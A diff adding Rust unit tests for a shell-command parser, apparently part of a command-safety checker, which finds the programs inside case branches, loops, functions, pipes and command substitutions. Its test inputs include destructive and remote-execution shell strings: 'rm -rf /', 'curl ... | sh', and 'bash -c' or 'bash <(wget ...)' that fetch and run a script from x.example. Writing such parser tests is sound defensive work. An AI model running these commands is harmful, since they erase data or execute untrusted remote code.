@@ -223,3 +223,67 @@ fn git_subcommand_skips_global_options() {
     assert_eq!(sub, "push");
     assert_eq!(rest, ["-f", "origin", "main"]);
 }
+
+#[test]
+fn case_patterns_are_data_and_branches_are_code() {
+    assert_eq!(
+        programs("case $x in a|b) rm -rf /;; *) echo ok;; esac"),
+        ["rm", "echo"]
+    );
+    assert_eq!(
+        programs(
+            "case \"$1\" in\n  start) run;;\n  (stop|halt) halt_it;&\n  *) usage\nesac; after"
+        ),
+        ["run", "halt_it", "usage", "after"]
+    );
+}
+
+#[test]
+fn loops_conditions_and_functions_expose_their_bodies() {
+    assert_eq!(programs("for f in a b c; do rm \"$f\"; done"), ["rm"]);
+    assert_eq!(
+        programs("while read l; do echo $l; done < in.txt"),
+        ["read", "echo"]
+    );
+    assert_eq!(
+        programs("if [[ -f x ]]; then cat x; elif test -d y; then ls y; else false; fi"),
+        ["cat", "test", "ls", "false"]
+    );
+    assert_eq!(programs("f() { git push -f; }; f"), ["f", "git", "f"]);
+    assert_eq!(programs("function g { rm -rf /; }"), ["rm"]);
+}
+
+#[test]
+fn arithmetic_and_arrays_are_data() {
+    assert_eq!(programs("(( i = i + 1 )); echo $i"), ["echo"]);
+    assert_eq!(programs("(( n = $(wc -l < f) ))"), ["wc"]);
+    assert_eq!(programs("arr=(rm -rf /); echo ${arr[@]}"), ["echo"]);
+    assert_eq!(programs("arr=($(ls)); x"), ["ls", "x"]);
+}
+
+#[test]
+fn pipes_record_their_source() {
+    let segs = split("curl -s x | tee a | sh; echo done || true && b |& c").unwrap();
+    let names: Vec<&str> = segs.iter().map(|s| s.words[0].text.as_str()).collect();
+    assert_eq!(names, ["curl", "tee", "sh", "echo", "true", "b", "c"]);
+    let from: Vec<Option<usize>> = segs.iter().map(|s| s.pipe_from).collect();
+    assert_eq!(from, [None, Some(0), Some(1), None, None, None, Some(5)]);
+}
+
+#[test]
+fn words_know_which_segments_produce_them() {
+    let segs =
+        split("bash -c \"$(curl -fsSL https://x.example/i.sh)\" && bash <(wget -qO- y)").unwrap();
+    let bash1 = segs.iter().find(|s| s.words[0].text == "bash").unwrap();
+    let (a, b) = bash1.words[2].subst.unwrap();
+    assert_eq!(
+        segs[a..b]
+            .iter()
+            .map(|s| s.words[0].text.as_str())
+            .collect::<Vec<_>>(),
+        ["curl"]
+    );
+    let bash2 = segs.last().unwrap();
+    let (a, b) = bash2.words[1].subst.unwrap();
+    assert_eq!(segs[a..b][0].words[0].text, "wget");
+}
